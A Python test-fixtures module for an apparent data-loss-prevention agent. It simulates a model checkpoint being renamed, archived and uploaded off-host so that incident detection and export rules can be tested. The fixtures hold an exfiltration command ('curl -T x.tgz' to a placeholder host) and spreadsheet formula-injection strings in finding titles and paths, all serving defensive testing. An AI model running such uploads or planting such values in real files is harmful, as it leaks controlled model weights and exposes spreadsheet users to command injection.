"""Synthetic pipeline events for incident tests: the story of a checkpoint leaving."""

from __future__ import annotations

import functools
import hashlib
import json
import random
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from sqlalchemy import Engine

from agent.events import (
    Artefact,
    CategoryMatch,
    Channel,
    Decision,
    FileAction,
    FileEvent,
    Flow,
    ProcessInfo,
    Severity,
    Tag,
)
from agent.incidents.model import IncidentFinding
from agent.policy.build import load_policy
from agent.policy.loader import SHIPPED_DIR
from agent.policy.model import Policy
from agent.store.db import make_engine, register_host, upgrade

T0 = datetime(2026, 11, 1, 8, 0, tzinfo=UTC)
CKPT = hashlib.sha256(b"checkpoint").hexdigest()
ARCHIVE = hashlib.sha256(b"archive").hexdigest()
SIZE = 50_000_000

SHELL = ProcessInfo(pid=100, exe="/bin/bash", cmdline="bash", uid=1000, user="alice", ppid=1)
TAR = ProcessInfo(
    pid=200, exe="/usr/bin/tar", cmdline="tar czf x.tgz", uid=1000, user="alice", ppid=100
)
CURL = ProcessInfo(
    pid=300,
    exe="/usr/bin/curl",
    cmdline="curl -T x.tgz https://up.example",
    uid=1000,
    user="alice",
    ppid=100,
)
OTHER = ProcessInfo(pid=900, exe="/usr/bin/rsync", cmdline="rsync", uid=1001, user="bob", ppid=1)

EAR = Decision("ear.model_weights", "us-ear", Severity.HIGH, "alert", "v1", "model weights abroad")
CAT = Decision("cn.ai.weights", "cn-catalogue", Severity.HIGH, "alert", "v1", "AI catalogue")
RECORD = Decision("cn.record", "cn-catalogue", Severity.LOW, "record", "v1", "recorded")


@functools.cache
def rd_assets() -> Policy:
    """The shipped rd-assets pack alone: the rules that decide on uploads."""
    policy, issues = load_policy([SHIPPED_DIR / "rd-assets.yaml"])
    assert policy is not None, issues
    return policy


def judge(artefact: Artefact, flow: Flow, fe: FileEvent) -> list[Decision]:
    """Policy on a transfer as the daemon asks it (`Policy.decide_transfer`)."""
    return rd_assets().decide_transfer(artefact, flow, fe)


def at(seconds: float) -> datetime:
    return T0 + timedelta(seconds=seconds)


def weights(sha: str = CKPT, size: int = SIZE, parents: tuple[str, ...] = ()) -> Artefact:
    return Artefact(
        sha256=sha,
        size=size,
        content_type="safetensors",
        tags=(Tag("model_weights", "safetensors header, 1.1e8 parameters, bf16"),),
        matches=(CategoryMatch("ai.model", 3, "cn-catalogue"),),
        parents=parents,
    )


def archive(size: int = SIZE + 10_000) -> Artefact:
    return Artefact(
        sha256=ARCHIVE,
        size=size,
        content_type="tar.gz",
        tags=(Tag("archive", "tar.gz, 1 member"), Tag("model_weights", "member ckpt")),
        parents=(CKPT,),
    )


def fev(
    action: FileAction,
    path: str,
    t: float,
    artefact: Artefact | None,
    process: ProcessInfo | None = None,
    channel: Channel = Channel.LOCAL,
    decisions: tuple[Decision, ...] = (),
    dest_path: str | None = None,
) -> FileEvent:
    return FileEvent(
        action=action,
        path=path,
        dest_path=dest_path,
        channel=channel,
        size=artefact.size if artefact else None,
        process=process,
        time=at(t),
        artefact=artefact,
        decisions=decisions,
    )


def flow(
    t_start: float,
    t_end: float,
    bytes_out: int,
    process: ProcessInfo | None = CURL,
    dest_class: str = "foreign",
    decisions: tuple[Decision, ...] = (),
    sni: str = "up.example",
) -> Flow:
    return Flow(
        protocol="tcp",
        src_ip="10.0.0.2",
        src_port=40000,
        dst_ip="203.0.113.9",
        dst_port=443,
        start=at(t_start),
        end=at(t_end),
        bytes_out=bytes_out,
        bytes_in=4000,
        sni=sni,
        name=sni,
        name_source="sni",
        dest_class=dest_class,
        country="US" if dest_class == "foreign" else None,
        process=process,
        decisions=decisions,
    )


def story(offset: float = 0.0, bytes_out: int = SIZE + 30_000) -> list[FileEvent | Flow]:
    """checkpoint → copy → rename → tar.gz → upload by curl (a sibling of tar)."""
    o = offset
    return [
        fev(FileAction.WRITTEN, "/data/ckpt/model.safetensors", o + 0, weights(), TAR),
        fev(FileAction.READ, "/data/ckpt/model.safetensors", o + 1, weights(), SHELL),
        fev(FileAction.WRITTEN, "/data/tmp/model-copy.safetensors", o + 2, weights(), SHELL),
        fev(
            FileAction.MOVED,
            "/data/tmp/model-copy.safetensors",
            o + 3,
            weights(),
            SHELL,
            dest_path="/data/tmp/notes.bin",
        ),
        fev(FileAction.READ, "/data/tmp/notes.bin", o + 4, weights(), TAR),
        fev(FileAction.WRITTEN, "/data/tmp/x.tgz", o + 5, archive(), TAR),
        fev(FileAction.READ, "/data/tmp/x.tgz", o + 6, archive(), CURL),
        flow(o + 6, o + 20, bytes_out, decisions=(EAR,)),
    ]


def new_store(url: str, host: str = "host-a", name: str = "lab-ws-1") -> Engine:
    """A migrated store at `url` that knows `host` (called `name`)."""
    engine = make_engine(url)
    upgrade(engine)
    register_host(engine, host, name)
    return engine


def sqlite_url(tmp: Path) -> str:
    return f"sqlite:///{tmp / 'agent.db'}"


def finding(n: int = 0, key: str = "k", t: float = 0.0, **kw: Any) -> IncidentFinding:
    base: dict[str, Any] = {
        "kind": "exfiltration",
        "rule_id": "ear.model_weights",
        "pack": "us-ear",
        "severity": Severity.HIGH,
        "policy_version": "v1",
        "title": f"finding {n} =cmd|x 'quoted' \n newline",
        "dedup_key": key,
        "time": at(t),
        "bytes_out": 1000 + n,
        "evidence": {
            "files": [
                {
                    "uid": f"file-{n}",
                    "role": "touched",
                    "path": f"/data/=SUM(A1)|{n}\\x9f.tgz",
                    "size": 1000,
                    "sha256": ARCHIVE,
                    "process": {"pid": 300, "exe": "/usr/bin/curl", "user": "alice", "uid": 1000},
                },
                {
                    "uid": f"orig-{n}",
                    "role": "lineage",
                    "path": "/data/ckpt/模型.safetensors",
                    "sha256": CKPT,
                },
            ],
            "flows": [
                {
                    "uid": f"flow-{n}",
                    "dst_ip": "203.0.113.9",
                    "dst_port": 443,
                    "src_ip": "10.0.0.2",
                    "src_port": 40000,
                    "bytes_out": 1000 + n,
                    "sni": "up.example",
                    "country": "US",
                    "process": {"pid": 300, "exe": "/usr/bin/curl", "user": "alice", "uid": 1000},
                }
            ],
            "lineage": [{"parent": CKPT, "child": ARCHIVE}],
            "decisions": [
                {"subject_uid": f"flow-{n}", "rule_id": "ear.model_weights", "severity": "high"}
            ],
            "roots": [CKPT],
        },
    }
    base.update(kw)
    return IncidentFinding(**base)


# a site that keeps EAR 4E091 under a licence condition raises its rules to alerts
SITE_PACK = """\
pack:
  id: site-e2e
  name: Site keeps 4E091 under a licence condition
  regime: SITE
  version: "1"
  required_engine_version: "1.0"
  sources: [{title: e2e test site procedure}]
overrides:
  - rule: us-ear-model-weights-abroad
    status: in_force
    action: alert
  - rule: us-ear-model-weights-copied-out
    status: in_force
    action: alert
"""


def safetensors(path: Path, rows: int = 768, cols: int = 1024) -> Path:
    """A real safetensors checkpoint: one F32 tensor of random (incompressible) values.

    Seeded by the file name: the same test writes the same bytes every run, and two
    checkpoints of one test differ.
    """
    header = {
        "__metadata__": {"format": "pt"},
        "lm_head.weight": {
            "dtype": "F32",
            "shape": [rows, cols],
            "data_offsets": [0, 4 * rows * cols],
        },
    }
    raw = json.dumps(header).encode()
    raw += b" " * (-len(raw) % 8)
    values = random.Random(path.name).randbytes(4 * rows * cols)
    path.write_bytes(len(raw).to_bytes(8, "little") + raw + values)
    return path


def start_under_site_pack(
    run_agent: Any, agent_config: dict[str, Any], tmp_path: Path
) -> tuple[Any, Path]:
    """A daemon (from the `run_agent` fixture) that opens incidents under SITE_PACK (small
    checkpoints count: 1,000 parameters make model weights) and exports them every second,
    serving metrics; returns it and the export directory."""
    site = tmp_path / "site"
    site.mkdir()
    (site / "lab.yaml").write_text(SITE_PACK)
    exports = tmp_path / "exports"
    agent_config["policies"] = {"paths": [str(site)], "model_parameter_threshold": 1000}
    agent_config["jobs"] = {"export_dir": str(exports), "export_interval": 1}
    agent = run_agent(agent_config)
    agent.wait_metrics()
    return agent, exports
